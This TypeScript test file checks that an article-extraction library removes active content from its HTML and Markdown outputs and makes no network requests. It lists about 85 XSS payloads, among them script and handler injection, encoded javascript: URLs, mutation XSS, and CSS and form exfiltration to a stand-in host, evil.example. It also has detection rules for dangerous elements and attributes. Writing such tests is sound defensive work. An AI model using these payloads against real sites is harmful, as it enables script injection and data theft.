/**
 * Security (issue 7): extract makes no request and runs no script, and no
 * output (article.html, toHtml, toMarkdown) carries active content.
 *
 * The XSS vectors are written for this file after the categories of the
 * html5sec.org list and DOMPurify's test vectors (script and handler
 * injection, URL schemes and their encodings, CSS, namespace confusion and
 * mutation XSS, raw-text elements, forms and dangling markup, metadata
 * fields). Each goes through extract inside an article paragraph, between
 * paragraphs, and in the page's metadata; outputs are then parsed the way a
 * browser parses them (jsdom's HTML5 parser, scripts off) and inspected.
 */
import dns from 'node:dns'
import http from 'node:http'
import https from 'node:https'
import net from 'node:net'
import tls from 'node:tls'
import { JSDOM } from 'jsdom'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { type Article, analyze, extract, toHtml, toMarkdown } from '../src/index.js'
import { sentence } from './robustness-inputs.js'

const URL_BASE = 'https://news.example.com/world/story.html'

const VECTORS: [string, string][] = [
  // Script elements, however spelled.
  ['script', '<script>alert(1)</script>'],
  ['script src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['script with a slash attribute', '<script/xss src="//evil.example/x.js"></script>'],
  ['split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['double open bracket', '<<script>alert(1);//<</script>'],
  ['unclosed script', '<script src=//evil.example/x.js?<b>'],
  // Event handlers, on allowed and unknown elements.
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, entity-encoded code', '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'],
  ['img onerror via alt and src', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['slash-separated handler', '<img/src="x"/onerror=alert(1)>'],
  ['backtick attribute', '<img src=`x` onerror=`alert(1)`>'],
  ['body onload', '<body onload=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>more</summary>text</details>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>news</marquee>'],
  ['paragraph onclick', '<p onclick="alert(1)" onmouseover="alert(2)">click</p>'],
  ['link onmouseover', '<a href="/ok" onmouseover="alert(1)">hover</a>'],
  ['unknown element handler', '<xss onpointerenter=alert(1) style="display:block">x</xss>'],
  ['quote breakout in an attribute', '<img src="/a.png" alt="x" title="&quot; onerror=&quot;alert(1)">'],
  ['unquoted attribute breakout', '<a href=/ok title=x onclick=alert(1)>a</a>'],
  ['bogus quotes before a script', '<img """><script>alert(1)</script>">'],
  // URL schemes and their encodings.
  ['javascript href', '<a href="javascript:alert(1)">a</a>'],
  ['javascript, mixed case and spaces', '<a href="  JaVaScRiPt:alert(1)">a</a>'],
  ['javascript, tab inside', '<a href="jav&#x09;ascript:alert(1)">a</a>'],
  ['javascript, newline and NUL inside', '<a href="java&#x0A;scr&#0;ipt:alert(1)">a</a>'],
  ['javascript, decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>'],
  ['javascript, padded entities', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>'],
  ['javascript, hex entities', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>'],
  ['javascript, &colon;', '<a href="javascript&colon;alert(1)">a</a>'],
  ['javascript after a control character', '<a href="&#1;javascript:alert(1)">a</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">a</a>'],
  ['livescript', '<a href="livescript:alert(1)">a</a>'],
  ['data:text/html', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ['data:text/html base64', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>'],
  ['data:image/svg+xml image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['javascript image', '<img src="javascript:alert(1)">'],
  ['srcset javascript', '<img src="/ok.png" srcset="javascript:alert(1) 1x">'],
  ['lowsrc and dynsrc', '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(2)">'],
  ['video poster', '<video poster="javascript:alert(1)"></video>'],
  ['table background', '<table background="javascript:alert(1)"><tr><td background="javascript:alert(2)">cell</td></tr></table>'],
  ['input type image', '<input type="image" src="javascript:alert(1)">'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">x</text></a></svg>'],
  ['svg set href', '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['math href', '<math href="javascript:alert(1)"><mi>click</mi></math>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed src', '<embed src="data:text/html,<script>alert(1)</script>">'],
  ['iframe src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:/">'],
  ['link import', '<link rel="import" href="/x.html">'],
  ['applet and portal', '<applet code="x.class"></applet><portal src="https://evil.example/"></portal>'],
  // CSS: injection and exfiltration.
  ['style @import', '<style>@import "https://evil.example/x.css";</style>'],
  ['style exfiltration by attribute selector', '<style>input[value^="a"]{background:url(https://evil.example/?a)}</style>'],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['style attribute url', '<p style="background:url(javascript:alert(1))">styled</p>'],
  ['style attribute expression', '<div style="width:expression(alert(1))">x</div>'],
  ['style attribute behavior', '<span style="behavior:url(x.htc)">x</span>'],
  ['font-face exfiltration', '<style>@font-face{font-family:x;src:url(https://evil.example/?c);unicode-range:U+0041}</style>'],
  // Namespace confusion and mutation XSS.
  ['svg p style', '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>'],
  ['svg style', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['form math nesting', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['CDATA in svg', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
  ['title attribute with comment end', '<a title="--><img src=x onerror=alert(1)>">a</a>'],
  // Raw-text elements and templates.
  ['textarea', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['title in body', '<title><img src=x onerror=alert(1)></title>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['noembed', '<noembed><img src=x onerror=alert(1)></noembed>'],
  ['iframe content', '<iframe><img src=x onerror=alert(1)></iframe>'],
  ['template', '<template><script>alert(1)</script><img src=x onerror=alert(2)></template>'],
  // Forms and dangling markup.
  ['form with action', '<form action="https://evil.example/"><input name="password"><button>Go</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">b</button>'],
  ['isindex', '<isindex action="javascript:alert(1)" type="image">'],
  ['select and keygen', '<select><option>a</option></select><keygen name="k">'],
  ['dangling image', `<img src='https://evil.example/?`],
  ['UTF-7 charset trick', '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
]

/** Vectors that leave a raw-text element (<script>, <style>) or an attribute quote open: the rest of the page is inside it. */
const SWALLOWS = new Set(['unclosed script', 'form math nesting', 'dangling image'])

/** Elements no output may contain (in toHtml, `meta`, `link` and `title` are allowed in the head only). */
const FORBIDDEN = 'script, style, iframe, frame, frameset, object, embed, applet, portal, form, input, button, textarea, select, keygen, isindex, svg, math, template, base, noscript, link, meta, title'
const SAFE_IMAGE_DATA = /^data:image\/(?:png|gif|jpeg|webp)[;,]/

/** What a browser would run, load against our will, or submit, in a parsed document. */
function dangers(document: Document, root: Element): string[] {
  const found: string[] = []
  for (const el of Array.from(root.querySelectorAll(FORBIDDEN))) found.push(`<${el.localName}>`)
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase()
      if (name.startsWith('on') || name === 'style' || name === 'srcset' || name.includes(':') || name === 'formaction' || name === 'action' || name === 'background' || name === 'poster') {
        found.push(`${el.localName}[${name}]`)
      }
      if (name === 'href' || name === 'src') {
        const value = attr.value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase()
        const scheme = /^([a-z][a-z0-9+.-]*):/.exec(value)?.[1]
        if (scheme && !['http', 'https', 'mailto', 'data'].includes(scheme)) found.push(`${el.localName}[${name}] scheme ${scheme}`)
        if (scheme === 'data' && !(el.localName === 'img' && SAFE_IMAGE_DATA.test(value))) found.push(`${el.localName}[${name}] ${attr.value.slice(0, 30)}`)
      }
    }
  }
  if (document.querySelector('meta[http-equiv="refresh" i]')) found.push('meta refresh')
  return found
}

function fragmentDangers(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><html><body>${html}</body></html>`).window
  return dangers(document, document.body)
}

/** toHtml's head may hold its own meta, canonical link and title; its body nothing active. */
function documentDangers(html: string): string[] {
  const { document } = new JSDOM(html).window
  const found = dangers(document, document.body)
  for (const el of Array.from(document.head.children)) {
    const ok =
      el.localName === 'title' ||
      (el.localName === 'link' && el.getAttribute('rel') === 'canonical' && /^https?:/.test(el.getAttribute('href') ?? '')) ||
      (el.localName === 'meta' && !el.hasAttribute('http-equiv')) ||
      (el.localName === 'meta' && el.getAttribute('http-equiv') === 'Content-Security-Policy')
    if (!ok) found.push(`head <${el.localName}>`)
  }
  for (const el of Array.from(document.head.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) if (attr.name.startsWith('on')) found.push(`head ${el.localName}[${attr.name}]`)
  }
  return found
}

const markdownParser = unified().use(remarkParse).use(remarkGfm)

/** Raw HTML nodes and unsafe link targets in Markdown, as a Markdown renderer reads it. */
function markdownDangers(markdown: string): string[] {
  const found: string[] = []
  const walk = (node: { type: string; url?: string; value?: string; children?: unknown[] }): void => {
    if (node.type === 'html') found.push(`raw HTML ${node.value}`)
    if (node.url !== undefined) {
      const url = node.url.replace(/[\u0000-\u0020]/g, '').toLowerCase()
      const scheme = /^([a-z][a-z0-9+.-]*):/.exec(url)?.[1]
      if (scheme && !['http', 'https', 'mailto'].includes(scheme) && !(node.type === 'image' && SAFE_IMAGE_DATA.test(url))) found.push(`${node.type} ${node.url}`)
    }
    for (const child of (node.children ?? []) as (typeof node)[]) walk(child)
  }
  walk(markdownParser.parse(markdown) as never)
  return found
}

/** The vector inside a body paragraph, as a block of its own, and in the page's metadata. */
function pages(vector: string): string[] {
  const paragraphs = (extra: string) =>
    Array.from({ length: 6 }, (_, i) => (i === 2 ? `<p>${sentence(i)} ${extra} ${sentence(i + 1)}</p>${extra}` : `<p>${sentence(i)}</p>`)).join('\n')
  const escaped = vector.replace(/"/g, '&quot;')
  return [
    `<!doctype html><html><head><title>Council agrees budget</title></head><body><article><h1>Council agrees budget</h1>${paragraphs(vector)}</article></body></html>`,
    `<!doctype html><html lang="${escaped}"><head><title>${vector} Council agrees budget</title>` +
      `<meta name="author" content="${escaped}"><meta name="description" content="${escaped}"><meta property="og:url" content="${escaped}">` +
      `<link rel="canonical" href="javascript:alert(1)"></head><body><article><h1>${vector}</h1>${paragraphs('')}</article></body></html>`,
  ]
}

function outputs(article: Article): { html: string; document: string; markdown: string; frontMatter: string } {
  return { html: article.html ?? '', document: toHtml(article), markdown: toMarkdown(article), frontMatter: toMarkdown(article, { frontMatter: true }) }
}

describe('XSS vectors through extract → article.html, toHtml and toMarkdown', () => {
  for (const [name, vector] of VECTORS) {
    it(name, () => {
      for (const page of pages(vector)) {
        for (const url of [undefined, URL_BASE]) {
          const article = extract(page, { url })
          // The vector's page still yields its article: sanitizing did not lose the text around it
          // (except after an unclosed raw-text element or quote, which swallows the rest of the page).
          if (!SWALLOWS.has(name)) expect(article.body).toContain(sentence(4))
          const out = outputs(article)
          expect(fragmentDangers(out.html)).toEqual([])
          expect(documentDangers(out.document)).toEqual([])
          expect(markdownDangers(out.markdown)).toEqual([])
          expect(markdownDangers(out.frontMatter)).toEqual([])
          // A vector may survive as text ("javascript:" in an escaped headline), never as markup.
          for (const text of [out.html, out.document]) expect(text).not.toMatch(/<\/?(?:script|style|form|iframe|svg|math|object|embed)\b/i)
          expect(out.html).not.toMatch(/javascript:|vbscript:|data:text\/html/i)
        }
      }
    })
  }

  it(`covers ${VECTORS.length} vectors`, () => {
    expect(new Set(VECTORS.map(([name]) => name)).size).toBe(VECTORS.length)
    expect(VECTORS.length).toBeGreaterThanOrEqual(80)
  })
})

describe('no network, no script execution', () => {
  afterEach(() => {
    vi.restoreAllMocks()
    delete (globalThis as Record<string, unknown>).__decantPwned
  })

  const PAGE =
    '<!doctype html><html><head><title>Loads</title>' +
    '<link rel="stylesheet" href="http://assets.example/site.css"><link rel="preload" href="https://assets.example/font.woff2" as="font">' +
    '<script src="http://assets.example/app.js"></script><script>globalThis.__decantPwned = 1</script>' +
    '<style>@import url("http://assets.example/more.css"); body { background: url(http://assets.example/bg.png) }</style>' +
    '<meta http-equiv="refresh" content="0;url=http://assets.example/next"><base href="http://assets.example/">' +
    '</head><body onload="globalThis.__decantPwned = 2"><article><h1>Loads</h1>' +
    Array.from({ length: 6 }, (_, i) => `<p>${sentence(i)}</p>`).join('') +
    '<img src="http://images.example/a.jpg" srcset="https://images.example/a2.jpg 2x" onerror="globalThis.__decantPwned = 3">' +
    '<iframe src="https://frames.example/embed"></iframe><video src="http://media.example/v.mp4" poster="http://media.example/p.jpg"></video>' +
    '<object data="http://media.example/x.swf"></object><embed src="http://media.example/y.swf">' +
    '<img src="x" onerror="globalThis.__decantPwned = 4"></article></body></html>'

  it('makes no request (http, https, net, tls, dns, fetch) and runs no script', () => {
    const calls: string[] = []
    const record = (what: string) => () => {
      calls.push(what)
      throw new Error(`network use: ${what}`)
    }
    vi.spyOn(http, 'request').mockImplementation(record('http.request'))
    vi.spyOn(http, 'get').mockImplementation(record('http.get'))
    vi.spyOn(https, 'request').mockImplementation(record('https.request'))
    vi.spyOn(https, 'get').mockImplementation(record('https.get'))
    vi.spyOn(net, 'connect').mockImplementation(record('net.connect'))
    vi.spyOn(net, 'createConnection').mockImplementation(record('net.createConnection'))
    vi.spyOn(net.Socket.prototype, 'connect').mockImplementation(record('net.Socket#connect'))
    vi.spyOn(tls, 'connect').mockImplementation(record('tls.connect'))
    vi.spyOn(dns, 'lookup').mockImplementation(record('dns.lookup'))
    vi.spyOn(globalThis, 'fetch').mockImplementation(record('fetch'))

    for (const url of [undefined, 'http://news.example.com/a.html']) {
      const { article } = analyze(PAGE, { url })
      expect(article.body).toContain(sentence(0))
      toHtml(article)
      toMarkdown(article)
      extract(new TextEncoder().encode(PAGE), { url })
    }
    expect(calls).toEqual([])
    expect((globalThis as Record<string, unknown>).__decantPwned).toBeUndefined()
  })

  it('the spies see a request when one is made (the test can fail)', async () => {
    const calls: string[] = []
    vi.spyOn(net.Socket.prototype, 'connect').mockImplementation(function (this: net.Socket) {
      calls.push('net.Socket#connect')
      return this
    })
    const request = http.get('http://127.0.0.1:9/')
    request.on('error', () => {})
    request.destroy()
    expect(calls).toEqual(['net.Socket#connect'])
  })
})
